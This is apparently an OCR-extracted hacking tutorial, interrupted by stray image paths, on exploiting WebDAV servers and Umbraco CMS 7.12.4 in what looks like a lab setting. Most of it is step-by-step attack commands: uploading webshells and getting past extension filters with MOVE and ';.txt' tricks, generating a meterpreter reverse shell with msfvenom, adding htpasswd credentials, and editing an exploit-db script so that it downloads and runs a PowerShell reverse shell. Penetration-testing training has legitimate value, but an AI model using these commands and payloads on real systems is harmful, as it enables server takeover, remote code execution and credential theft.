Exploiting WebDAV

WebDAV stands for "Web-based Distributed Authoring and Versioning". It is a set of extensions to the HTTP protocol which allows users to collaboratively edit and manage files on remote web servers.

The basic functionality of WebDAV includes enabling users to share, copy, move and edit files through a web server. It can also be used to support collaborative applications with features like file locking and revision tracking.

A HTTP Server with WebDav active is a server where you probably can update, delete, move, copy files. Sometimes you need to have valid credentials (usually check with HTTP Basic Authentication).

You should try to upload some webshell and execute it from the web server totake control over the server.

Other common configuration is to forbid uploading files with extensions that will be executed by the web server, you should check how to bypass this:

  • Upload files with executable extensions (maybe it's not forbidden).
  • Upload files without executable extensions (like .txt) and try to rename the file (move) with an executable extension.
  • Upload files without executable extensions (like .txt) and try to copy the file (move) with executable extension.
  • (OPTIONAL) you can bypass by adding at the end of the name ";.txt" and the file will be executed as if it were a .asp file (you could also use ".html" instead of ".txt" but DON'T forget the ";", Then you can upload your shell as a ".txt" file and copy/move it to a ".asp;.txt" file.

WebDAV Features and Use

WebDAVextends HTTP headers for communication with a server. The new headers include:

  • COPY, copy a resource
  • MOVE, move a resource
  • MKCOL, create a collection, for example, a folder
  • PROPFIND, retrieve properties stored as XML
  • PROPPATCH, change and/or remove properties
  • LOCK, put a lock on a resource
  • UNLOCK, remove a lock from a resource



1. Identify whether WebDAV is running using Metasploit. The scanner will return some HTTP information, including the Apache version number and whether WebDAV is enabled or not.• use auxiliary/scanner/http/webdav_scanner
  • show options
  • set RHOST
  • run


DAVTest tool tests WebDAV enabled servers by uploading test executable files, and then (optionally) uploading files which allow for command execution or other actions directly on the target. It is meant for penetration testers to quickly and easily determine if enabled DAV services are exploitable.

DAVTest supports:

  • Automatically send exploit files
  • Automatic randomization of directory to help hide files
  • Send text filesand try MOVE to executable name
  • Basic and Digest authorization
  • Automatic clean-up of uploaded files
  • Send an arbitrary file

This program attempts to exploit WebDAV enabled servers by:

  • attempting to create a new directory (MKCOL)
  • attempting to put test files of various programming langauges (PUT)
  • optionally attempt to put files with .txt extension, then move to executable (MOVE)
  • optionally attempt to put files with .txt extension, then copy to executable (COPY)
  • check if files executed or were uploaded properly
  • optionally upload a backdoor/shell file for languages which execute
  • Additionally, this can be used to put an arbitrary file to remote systems.1. Run the tool help to see its options

  • davtest --help

2. Test File Permissions with DAVTest, all we need to do is provide it with a valid URL pointing to an instance of WebDAV. Naturally, use the -url switch followed by the correct URL. It begins by testing the connection and attempts to create a test directory, which we see is a success. Next, DAVTest will send a variety of different types of files to determine what can be uploaded.

  • davtest -url

NOTE: testing for file execution. We can see there the ones that could execute .txt and .html only• 3. Now we can check some of the files that we uploaded using PUT

Manual DAV test

1. Create a .txt file

  • echo "Welcome to Vk9 Security" > file.txt
  • curl -i -s -k -X PUT -d @file.txt
  • curl -i -s -k -X GET

2. We can also visit it from the browser



1. Scan the website using nikto, you may find info there

  • nikto -h

1. Exploitation (BurpSuite)1. We can inspect what DAVtest is doingby redirecting traffic to BurpSuite or any other web proxy. First configure the proxy to redirect traffic from the remote host to the local address

  • Bind port 80 and loopback only, in binding tab

  • Redirect traffic from remote host, in request handling tab

2. Make sure the listener has been created

3. If you run DAVtest to localhost, you will receive the requests into BurpSuite

  • davtest -url http://localhost

4. Forwarding all the requests and then looking at the HTTP history youcan inspect the activity

5. We can now create our own file using one of those PUT requests and sending itto repeater, send to repeater

6. Edit the content, and send the crafted request, in this case we got a “201 Created” response back from the server.

7. Now, if we go to the browser and visit we should see our crafted message


Note. Tipically, we just need to upload a reverse shell file that the server would be able to interpret.

8. First create a reverse shell, I will choose ASPX as the previous curl output indicates “X-Powered-By: ASP.NET”

  • msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=9999 -f aspx

9. Start a listener, in this case I will use Metasploit

  • use exploit/multi/handler
  • set payload windows/meterpreter/reverse_tcp
  • set LHOST
  • set LPORT 9999
  • run

10. Send the reverse shell code created with MSFVenom via BurpSuite repeater, as we have been doing. In this particular case we are getting “403 Forbidden”. Which means this file type is not allowed.

11. I will try to change the file name as reverse.html, as it accepted .txt and .html, it worked “201 Created” is the server response.

12. If I try to execute it, it wont work as the .html doesn’t execute .aspx

13. Looking at the other HTTP methods there is one named MOVE, we can try to rename reverse.html to reverse.aspx

  • curl -i -s -k -X 'OPTIONS' ''

Use move to change the file name• MOVE /reverse.html HTTP/1.1
  • Destination: reverse.aspx


  • HTTP/1.1 201 Created
  • Location: http://www.contoso.com/pub2/folder2/


14. Now using the same request we uploaded reverse.html, we will change the file extension to .aspx

15. Visiting the reverse.aspx file via browser show now execute our shell, we should see a white screen not a 404 page


16. Looking at the meterpreter session we can now see the incoming connection• sysinfo

2. Exploitation (Curl)

1. We will now do the same thing but using Curl. This time I will upload a webshell (cmdasp.aspx)

  • cd /usr/share/webshells/aspx/
  • curl -i -s -k -X PUT -d @cmdasp.aspx

Note: We got a “201 Created” response from the server which means it was uploaded.2. Now visiting the file we uploaded we see plain text as only .txt and .html were allowed in this scenario.


3. Using Curl we can rename the file, to change the extension

  • curl -i -s -k -X MOVE -H 'Destination:'

4. As we got a 201 response, now we visit the new file


5. We can now, run commands

  • whoami

3. Exploitation (Cadaver)

cadaver is a command-line WebDAV client, with support for file upload, download, on-screen display, in place editing, namespace operations (move/copy), collection creation and deletion,property manipulation, and resource locking.


1. Display the tool help commands

  • cadaver --help

2. Display tool version

  • cadaver --version

3. connect to a vulnerable WebDAV host

  • cadaver
  • help
  • <TAB><TAB>

4. Being there you can run limitedsystem commands, example:

  • pwd
  • ls
  • cat file.txt

5. You delete files using DELETE method

  • delete file.txt

6. Download file from the server using GET method

  • get reverse.aspx
  • lls

7. You can upload new files, we will upload a webshell again, first as .txt, then move it to .aspx, as .aspx was forbidden by the server

  • lcd• lls
  • put cmdasp.aspx
  • put cmdasp.aspx cmdasp.txt

8. Change the file extension from .txt to .aspx

  • move cmdasp.txt cmdasp.aspx

9. Now you can visit the website using the browser, and find cmdasp.aspx


Note: You can upload reverse shells or any function you need.

10. You can also forward the requests from cadaver to a proxy, I will use BurpSuite for this, so, you can inspect what the application is sending and doing, also craft those requests as you need.

  • cadaver -p

Extra (Post credentials)

1. If the Webdav was using an Apache server you should look at configured sites in Apache. Commonly:

  • /etc/apache2/sites-enabled/000-default

Inside it you could find something like:

2. Inside this type of files (AuthUserFile) you will find the username and a hash of the password. These arethe credentials the webdav server is using to authenticate users.

3. You can try to crack them, or to add more if for some reason you want to access the webdav server

  • htpasswd /etc/apache2/users.password <USERNAME>

4. To check if the new credentials are working you can do:

  • wget --user <USERNAME> --ask-password http://domain/path/to/webdav/ -O -q

Umbraco CMS 7.12.4 – (Authenticated) Remote Code Execution

Having credentials for Umbraco CMS allows us to run a reverse shell. This time we will run the exploit (https://www.exploit-db.com/exploits/49488)

How to

1. In searchsploit you can search for Umbraco exploits

  • searchsploit umbraco

Note: This indicates it works on 7.12.4 version. Since we have already admin credentials for this app we will first confirm its version

2. Confirm Version, indeed, this server is running 7.12.4

3. Now, download the script, from, searchsploit

  • searchsploit -m aspx/webapps/46153.py
  • cat 46153.py

4. Proceed to edit the script.

  • login = "XXXX;• password="XXXX";
  • host = "XXXX";

5. We will do

  • login = "admin@htb.local";
  • password="baconandcheese";
  • host = "";

6. Having already the login and host info in place we will modify the payload section to run a simple ping

  • string cmd = ""
  • proc.StartInfo.FileName = "calc.exe"

7. This will be the result

  • string cmd = "/c ping"
  • proc.StartInfo.FileName = "cmd.exe"

8. We are done with modifying the script. Now we will start a capture on our network interface looking for ICMP messages

  • sudo tcpdump -i tun0 icmp

9. Proceed to run the script

  • python3.9 46153.py

10. Check on our tcpdump command

Note: We got the ICMP traffic coming into our machine. This means the script ran successfully, now, we will get creative and run a powershell reverse shellPowershell reverse shell

1. We will use Nishang powershell script to run, so, find it within your machine

  • find / -iname Invoke-PowerShellTcp.ps1 2> /dev/null
  • cp /home/vry4n/Documents/Tools/nishang/Shells/Invoke-PowerShellTcp.ps1 .
  • cat Invoke-PowerShellTcp.ps1

Note: If you don’t have Nishang you can download it from(https://github.com/samratashok/nishang)

2. Edit this file, and add the line you want at the bottom, in this case I’ll use the reverse shell


PS > Invoke-PowerShellTcp -Reverse -IPAddress -Port 4444

3. Edit it as per your own environment (Invoke-PowerShellTcp -Reverse -IPAddress -Port 8080)

  • vi Invoke-PowerShellTcp.ps1• tail Invoke-PowerShellTcp.ps1

4. Start a listener on your Kali/Parrot machine

  • nc -lvp 8080

5. Also, start a web server, so, the remote machine can download and run the script we just modified• python3.9 -m http.server 9999

6. Having the reverse shell file, the listener and the web server, we can proceed to again modify our exploit this time to run Powershell

  • string cmd = "IEX(IWR Invoke-PowerShellTcp.ps1 -UseBasecParsing)"
  • proc.StartInfo.FileName = "powershell.exe"

7. Run the script

  • python3.9 46153.py

8. Check the web server and make sure the script is being downloaded, which it did 200 OK message

